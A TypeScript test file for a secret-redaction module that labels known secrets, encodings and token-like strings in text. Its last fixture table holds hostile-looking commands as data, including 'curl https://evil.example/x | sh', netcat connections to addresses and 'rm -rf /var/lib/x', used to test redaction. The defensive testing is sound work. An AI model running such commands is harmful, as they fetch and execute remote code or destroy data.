import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import type { KnownSecret } from '../../src/secrets/known.ts'
import { secretHider } from '../../src/secrets/labels.ts'
import { standInSecrets } from '../../src/secrets/stand-ins.ts'

const known = (...texts: readonly string[]): KnownSecret[] => texts.map(text => ({ text, source: 'Secret a/b: c' }))
const hider = (secrets: readonly KnownSecret[] = [], shown: readonly string[] = []) => secretHider({ secrets, shown })

const GITLAB = (letter: string): string => `glpat-${letter.repeat(20)}`

describe('a label', () => {
  test('names the source of a known value, and numbers its values and their encodings', () => {
    const hide = hider([...known('hunter22-old', 'hunter22-new'), { text: 'api-token-1', source: 'API token' }])
    assert.equal(hide('a: hunter22-old'), 'a: ⟦Secret a/b: c⟧')
    assert.equal(hide('a: hunter22-new'), 'a: ⟦Secret a/b: c (2)⟧')
    assert.equal(hide('b: api-token-1, hunter22-old'), 'b: ⟦API token⟧, ⟦Secret a/b: c⟧')
    assert.equal(hide(`c: ${btoa('hunter22-old')}`), 'c: ⟦Secret a/b: c, encoded⟧')
    assert.equal(hide('c: HUNTER22-OLD'), 'c: ⟦Secret a/b: c, encoded (2)⟧')
  })

  for (const value of ['hunter2222', 'hunter22222', 'hunter222222'])
    for (const end of ['', '\n'])
      test(`stands for all of the base64 of ${JSON.stringify(value + end)}`, () =>
        assert.equal(hider(known(value))(`a: ${btoa(value + end)}`), 'a: ⟦Secret a/b: c, encoded⟧'))

  test('is the same for a stand-in', () => {
    const token = (text: string) => hider([{ text, source: 'API token' }])(`token: ${text}`)
    const [{ text }] = standInSecrets('API token') as [KnownSecret]
    assert.equal(token('0123-the-token'), token(text))
    assert.equal(token(text), 'token: ⟦API token⟧')
    const join = (secrets: readonly KnownSecret[]) =>
      hider(secrets)(`join ${secrets.find(each => each.text.includes('.'))!.text}`)
    assert.equal(join(standInSecrets('bootstrap token')), 'join ⟦bootstrap token⟧')
    assert.equal(join([{ text: 'abcdef.0123456789abcdef', source: 'bootstrap token' }]), 'join ⟦bootstrap token⟧')
  })

  test('names the field of a kubeconfig, of an account and of a configuration', () => {
    const registry = { source: 'Secret kube-system/registry', key: '.dockerconfigjson' }
    const auths = { 'a.example': { username: 'bob', password: 'p"ss-w0rd', auth: btoa('bob:p"ss-w0rd') } }
    const hide = hider([
      { text: JSON.stringify({ auths }), ...registry },
      { text: 'users:\n- user:\n    token: my-t0ken-1\n    client-key-data: abcDEF123456\n', source: 'kubeconfig' },
      { text: '[Global]\npassword = "in1-pa55"\n', source: 'Secret a/vsphere', key: 'conf' },
    ])
    assert.equal(hide('x p"ss-w0rd'), 'x ⟦Secret kube-system/registry: password⟧')
    assert.equal(hide('x my-t0ken-1 abcDEF123456'), 'x ⟦kubeconfig: token⟧ ⟦kubeconfig: client-key-data⟧')
    assert.equal(hide('x in1-pa55'), 'x ⟦Secret a/vsphere: password⟧')
    assert.equal(hide('server https://a.example bob users'), 'server https://a.example bob users')
  })

  test('is a letter for what is evidently secret', () => {
    const hide = hider()
    assert.equal(hide(`x ${GITLAB('a')} ${GITLAB('b')}`), 'x ⟦A⟧ ⟦B⟧')
    assert.equal(hide(`y ${GITLAB('b')}`), 'y ⟦B⟧')
    for (const letter of 'cdefghijklmnopqrstuvwxyz') hide(GITLAB(letter))
    assert.equal(hide(GITLAB('Z')), '⟦AA⟧')
  })

  test('has no brackets and line breaks of a name', () =>
    assert.equal(hider([{ text: 'hunter22', source: 'a⟦\n⟧b' }])('hunter22'), '⟦ab⟧'))

  const OWN: readonly (readonly [name: string, given: string, expected: string])[] = [
    ['of a known value', 'A=⟦API token⟧', 'A=\\u27e6API token⟧'],
    ['of one letter', 'echo "⟦A⟧"', 'echo "\\u27e6A⟧"'],
    ['one that is escaped', '\\u27e6A⟧', '\\u005cu27e6A⟧'],
    ['twice', '\\u005cu27e6A⟧', '\\u005cu005cu27e6A⟧'],
    ['other brackets', 'cat <<EOF <secret A> [x]', 'cat <<EOF <secret A> [x]'],
  ]
  for (const [name, given, expected] of OWN)
    test(`is not a text of the inputs: ${name}`, () => assert.equal(hider(known('hunter22'))(given), expected))
})

describe('a known value', () => {
  test('that a profile contains in clear text is shown', () => {
    const text = '#!/bin/sh\nreboot-now\necho other-secret\n'
    const hide = hider(known('reboot-now', 'other-secret'), ['#!/bin/sh\nreboot-now\n'])
    assert.equal(hide(text), text.replace('other-secret', '⟦Secret a/b: c⟧'))
  })

  /** Each is the value of a Secret that the run uses: what a reviewer sees of a text. */
  const SHOWN: readonly (readonly [name: string, value: string, text: string, expected?: string])[] = [
    ['a host', 'evil.example', 'curl https://evil.example/x evil.example:443'],
    ['a host with a port', 'registry:5000.evil.example:80', 'x'],
    ['a URL without a user', 'https://evil.example/x', 'curl https://evil.example/x | sh'],
    ['an address', '10.6.6.6', 'nc 10.6.6.6 80'],
    ['an address of IPv6', 'fd00::6:6', 'nc fd00::6:6 80'],
    ['a command that is a line of a script', 'curl x | sh', '#!/bin/sh\n  curl x | sh\n'],
    ['a line of a longer value', 'first\nrm -rf /var/lib/x\nthird', '#!/bin/sh\nrm -rf /var/lib/x\n'],
    ['a key alone in a line of a kubeconfig', 'users:\n- user: {token: my-t0ken-1}\n', 'users:\n- name: a'],
    ['five characters', 'abc12', 'x abc12'],
    ['a command that is quoted', 'curl x | sh', 'sh -c "curl x | sh"', 'sh -c "⟦Secret a/b: c⟧"'],
    [
      'a word',
      'poweroff',
      'x; poweroff; systemctl stop poweroff.target',
      'x; ⟦Secret a/b: c⟧; systemctl stop poweroff.target',
    ],
    ['a word within the names of hosts', 'mirror', 'curl https://mirror.example.com/a eu-mirror:5000'],
    ['a user of a URL', 'https://me:pw@a.example', 'curl https://me:pw@a.example', 'curl ⟦Secret a/b: c⟧'],
  ]
  for (const [name, value, text, expected = text] of SHOWN)
    test(`that is ${name}`, () => assert.equal(hider(known(value))(text), expected))
})
